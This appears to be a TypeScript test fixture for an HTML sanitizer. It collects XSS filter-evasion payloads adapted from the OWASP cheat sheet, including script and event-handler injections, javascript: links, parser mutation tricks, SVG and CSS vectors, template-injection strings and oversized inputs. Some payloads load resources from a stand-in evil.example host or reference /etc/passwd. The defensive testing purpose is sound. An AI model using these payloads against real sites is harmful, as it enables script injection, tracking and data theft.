/**
 * What people who mean harm write where a text is asked for, for whoever takes texts with a look: sent in by every way there is, and shown in
 * Chromium, none of it may run. Whatever would run calls `harm`, so that a page says by itself whether it did.
 */
export type Hostile = { name: string; html: string }

const run = `harm('ran')`
const coded = [...run].map(one => `&#${one.charCodeAt(0)};`).join('')

/** After the OWASP cheat sheet on evading XSS filters. */
const scripts: Hostile[] = [
  { name: 'a script', html: `<script>${run}</script>` },
  { name: 'a script of another case', html: `<ScRiPt>${run}</sCrIpT>` },
  { name: 'a script from elsewhere', html: '<script src="//evil.example/x.js"></script>' },
  { name: 'a script without an end', html: `<script>${run}` },
  { name: 'a script with a broken end', html: `<script>${run}</script\t\n bar>` },
  { name: 'a script within a script', html: `<scr<script>ipt>${run}</scr</script>ipt>` },
  { name: 'a script after extra brackets', html: `<<script>${run};//<</script>` },
  { name: 'a script in a broken attribute', html: `<img """><script>${run}</script>">` },
  { name: 'a script told by a slash', html: `<script/xss src=data:,${encodeURIComponent(run)}></script>` },
  { name: 'a script after a title', html: `</title><script>${run}</script>` },
  { name: 'a script after a comment', html: `<!--><script>${run}</script>--><!-- --!><img src=x onerror="${run}">` },
  { name: 'a conditional comment', html: `<!--[if gte IE 4]><script>${run}</script><![endif]-->` },
  { name: 'a processing instruction', html: `<?xml version="1.0"?><?php ${run} ?><script>${run}</script>` },
  { name: 'CDATA', html: `<![CDATA[<script>${run}</script>]]>` },
]

const handlers: Hostile[] = [
  { name: 'an error of a picture', html: `<img src=x onerror="${run}">` },
  { name: 'an error of a picture without quotes', html: `<img src=x onerror=${run}//` },
  { name: 'an error of a picture that is coded', html: `<img src=x onerror="${coded}">` },
  { name: 'a handler after a slash', html: `<img/src/onerror=${run}>` },
  { name: 'a handler after a form feed', html: `<img src=x\fonerror="${run}">` },
  { name: 'a handler after a vertical tab', html: `<img src=x\vonerror="${run}">` },
  { name: 'a handler beside strange signs', html: `<body onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${run}>` },
  { name: 'a loaded body', html: `<body onload="${run}">` },
  { name: 'a toggled details', html: `<details open ontoggle="${run}"><summary>x</summary></details>` },
  { name: 'a focused input', html: `<input autofocus onfocus="${run}">` },
  { name: 'a focused anchor', html: `<a tabindex=1 autofocus onfocus="${run}" href="#">x</a>` },
  { name: 'an animated style', html: `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${run}">x</p>` },
  { name: 'a finished marquee', html: `<marquee loop=1 width=0 onfinish="${run}">x</marquee>` },
  { name: 'a video whose source fails', html: `<video><source onerror="${run}"></video><audio src=x onerror="${run}"></audio>` },
  { name: 'a video that begins', html: `<video src="file:00000000-0000-7000-8000-000000000000" onloadstart="${run}" autoplay></video>` },
  { name: 'a picture named as a file', html: `<img src="file:00000000-0000-7000-8000-00000000000x" onerror="${run}">` },
  { name: 'a file with more behind it', html: `<img src='file:00000000-0000-7000-8000-000000000000" onerror="${run}'>` },
  {
    name: 'an alternative that ends itself',
    html: `<img src="file:00000000-0000-7000-8000-000000000000" alt='"><img src=x onerror=${run}>'>`,
  },
  { name: 'a class that ends itself', html: `<p class='dj-indent"><img src=x onerror=${run}>'>x</p>` },
]

const addresses: Hostile[] = [
  ...[
    'javascript:harm(1)',
    'JaVaScRiPt:harm(1)',
    ' javascript:harm(1)',
    'java\tscript:harm(1)',
    'java\nscript:harm(1)',
    'java&#x0A;script:harm(1)',
    'jav&#x09;ascript:harm(1)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;harm(1)',
    '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058harm(1)',
    '\u0001javascript:harm(1)',
    '\u00a0javascript:harm(1)',
    'javascript&colon;harm(1)',
    'javascript://%0aharm(1)',
    'vbscript:msgbox(1)',
    'livescript:harm(1)',
    'data:text/html,<script>parent.harm(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5oYXJtKDEpPC9zY3JpcHQ+',
    'blob:https://evil.example/1',
    'filesystem:https://evil.example/1',
    'view-source:javascript:harm(1)',
    'file:///etc/passwd',
    'file:00000000-0000-7000-8000-000000000000/../../x',
    '//evil.example',
    '/\\evil.example',
    'https://gov.example@evil.example/',
    'feed:javascript:harm(1)',
    'jar:javascript:harm(1)!/',
  ].map(address => ({ name: `a link to ${JSON.stringify(address)}`, html: `<a href="${address}">x</a>` })),
  {
    name: 'a picture by javascript',
    html: '<img src="javascript:harm(1)"><img src=`javascript:harm(1)`><img dynsrc="javascript:harm(1)">',
  },
  { name: 'a picture from elsewhere', html: '<img src="https://evil.example/pixel.gif"><img srcset="https://evil.example/a.png 1x">' },
  {
    name: 'a data picture that is SVG',
    html: '<img src="data:image/svg+xml;utf8,<svg onload=harm(1) xmlns=%22http://www.w3.org/2000/svg%22/>">',
  },
  {
    name: 'a form that goes elsewhere',
    html: '<form action="javascript:harm(1)"><button formaction="javascript:harm(1)">x</button><input type=image formaction="javascript:harm(1)"></form>',
  },
  { name: 'a base', html: '<base href="javascript:harm(1);//"><a href="x">x</a>' },
  { name: 'a refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:harm(1)">' },
  {
    name: 'a sheet by javascript',
    html: '<link rel="stylesheet" href="javascript:harm(1)"><link rel=import href="data:text/html,<script>harm(1)</script>">',
  },
  { name: 'a ping', html: '<a href="https://example.com" ping="https://evil.example">x</a>' },
]

const frames: Hostile[] = [
  { name: 'a frame by javascript', html: '<iframe src="javascript:parent.harm(1)"></iframe>' },
  { name: 'a frame with a document', html: '<iframe srcdoc="<script>parent.harm(1)</script>"></iframe>' },
  { name: 'a frame with fallback', html: `<iframe></iframe><iframe><img src=x onerror="${run}"></iframe>` },
  { name: 'frames nested in frames', html: `${'<iframe>'.repeat(20)}<img src=x onerror="${run}">` },
  { name: 'an object', html: '<object data="data:text/html,<script>parent.harm(1)</script>"></object><embed src="javascript:harm(1)">' },
  {
    name: 'an object with a code',
    html: '<object type="text/x-scriptlet" data="https://evil.example/x.html"></object><applet code="x"></applet>',
  },
  { name: 'a portal', html: '<portal src="https://evil.example"></portal><fencedframe></fencedframe>' },
]

/** What one parser takes for text and the next for tags: mutation, by which cleaned markup becomes live when it is read again. */
const mutations: Hostile[] = [
  { name: 'noscript with an attribute', html: `<noscript><p title="</noscript><img src=x onerror=${run}>">` },
  {
    name: 'noembed, noframes and plaintext',
    html: `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed><noframes></noframes><plaintext><img src=x onerror=${run}>`,
  },
  { name: 'style with an attribute', html: `<style><p title="</style><img src=x onerror=${run}>"></style>` },
  { name: 'title within svg', html: `<svg><title><style><img title="</style><img src=x onerror=${run}>"></style></title></svg>` },
  {
    name: 'style within svg',
    html: `<svg><style><img src=x onerror=${run}></style></svg><svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  },
  {
    name: 'math with a table',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  },
  { name: 'forms within math', html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>` },
  {
    name: 'math with an annotation',
    html: `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  },
  {
    name: 'svg with a foreign object',
    html: `<svg><foreignObject><iframe srcdoc="<script>parent.harm(1)</script>"></iframe></foreignObject></svg>`,
  },
  { name: 'svg with a desc', html: `<svg><desc><noscript><style></style><img title="</noscript><img src=x onerror=${run}>"></desc></svg>` },
  { name: 'a textarea that is not closed', html: `<textarea><img title="</textarea><img src=x onerror=${run}>">` },
  { name: 'a textarea with a slash', html: `<textarea></textarea/><img src=x onerror=${run}></textarea>` },
  { name: 'xmp', html: `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>` },
  { name: 'a select', html: `<select><option><style></option></select><img src=x onerror=${run}></style></select>` },
  {
    name: 'a template',
    html: `<template><img src=x onerror=${run}></template><template shadowrootmode=open><img src=x onerror=${run}></template>`,
  },
  { name: 'a table that throws out what it holds', html: `<table><img src=x onerror=${run}><tr><td></table>` },
  { name: 'nested anchors', html: `<a href="https://example.com/"><a href="javascript:harm(1)">x</a></a>` },
  { name: 'coded tags', html: `&lt;img src=x onerror=${run}&gt;` },
  { name: 'tags coded twice', html: `&amp;lt;img src=x onerror=${run}&amp;gt;` },
  { name: 'a code without an end', html: '&#60;script&#62;harm(1)&#60;/script&#62; &ltimg src=x onerror=harm(1)&gt' },
  { name: 'wide brackets', html: `＜script＞${run}＜/script＞ \u2039img src=x onerror=${run}\u203a` },
  { name: 'back quotes', html: `<img src=x alt="\`\`onerror=${run}">` },
  { name: 'a comment that ends early', html: `<!--> <img src=x onerror=${run}> --><!-- ---!> <img src=x onerror=${run}> -->` },
  { name: 'a tag that does not end', html: `<p title="<img src=x onerror=${run}>` },
  { name: 'a tag that ends the page', html: `</p></div></td></table></section></main></body></html><img src=x onerror=${run}>` },
]

const drawings: Hostile[] = [
  { name: 'svg that loads', html: `<svg onload="${run}"></svg><svg/onload=${run}>` },
  { name: 'svg with a script', html: `<svg><script>${run}</script><script href="data:,harm(1)"/></svg>` },
  {
    name: 'svg that animates an address',
    html: '<svg><a><animate attributeName=href values="javascript:harm(1)"/><text y=20>x</text></a></svg>',
  },
  { name: 'svg that sets an address', html: '<svg><a><set attributeName="xlink:href" to="javascript:harm(1)"/><text>x</text></a></svg>' },
  {
    name: 'svg that uses another',
    html: '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=harm(1) /></svg>#x"/></svg>',
  },
  { name: 'an animation that begins', html: `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>` },
  { name: 'math with an address', html: '<math><maction actiontype="statusline#x" xlink:href="javascript:harm(1)">x</maction></math>' },
]

/** No script, and yet out of its place: over the page, beyond its block, or telling the world who reads. */
const styles: Hostile[] = [
  { name: 'a style over the whole page', html: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">x</div>' },
  { name: 'a style that asks elsewhere', html: '<p style="background:url(https://evil.example/a.gif)">x</p>' },
  {
    name: 'a sheet of its own',
    html: '<style>body{display:none}*{background:url(https://evil.example/a.gif)}@import "https://evil.example/a.css";</style>',
  },
  { name: 'an expression', html: `<p style="width: expression(${run});x:exp/**/ression(${run});-moz-binding:url(x)">x</p>` },
  { name: 'a style with escapes', html: `<p style="\\62 ackground:u\\72l(javascript:harm(1))">x</p>` },
  {
    name: 'classes and ids of the page',
    html: '<div class="ant-modal-mask dj-site-header" id="root">x</div><p id="harm" name="harm">x</p>',
  },
  { name: 'names that hide others', html: '<form id="document" name="cookie"><input name="attributes"><img name="getElementById"></form>' },
  {
    name: 'markers of frameworks',
    html: '<div data-dj-behaviour="slides" v-html="harm(1)" x-data="harm(1)" ng-app ng-csp @click="harm(1)" :src="harm(1)">x</div>',
  },
]

export const hostile: Hostile[] = [...scripts, ...handlers, ...addresses, ...frames, ...mutations, ...drawings, ...styles]

/** Typed as text by people who try their luck: it is shown as it was typed, and worked out nowhere. */
export const templateSyntax: string[] = [
  '{{7*7}}',
  '{{{7*7}}}',
  '{{constructor.constructor("harm(1)")()}}',
  '{{#with "s" as |string|}}{{lookup string.sub "constructor"}}{{/with}}',
  '{{> partial}} {{!-- x --}} {{else}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be typed so
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '[[7*7]]',
  '{% include "/etc/passwd" %}',
  '{7*7}',
  '%{7*7}',
]

/** Texts that are a burden: what each must do is end soon, one way or the other. */
export function hugeTexts(): Hostile[] {
  return [
    { name: 'a hundred thousand open tags', html: '<div>'.repeat(100_000) },
    { name: 'ten thousand open tags', html: `${'<b>'.repeat(10_000)}x` },
    { name: 'two hundred thousand brackets', html: '<'.repeat(200_000) },
    { name: 'open attributes', html: '<img src="'.repeat(50_000) },
    { name: 'comments without an end', html: '<!--'.repeat(100_000) },
    { name: 'attributes without number', html: `<p ${'a=1 '.repeat(100_000)}>x</p>` },
    { name: 'nested tables', html: '<table><tr><td>'.repeat(6_000) },
    { name: 'closing tags alone', html: '</p>'.repeat(60_000) },
    { name: 'more than is read', html: `<p>${'党'.repeat(1_000_001)}</p>` },
    { name: 'characters of two units', html: `<p>${'𠮷'.repeat(300_000)}</p>` },
  ]
}
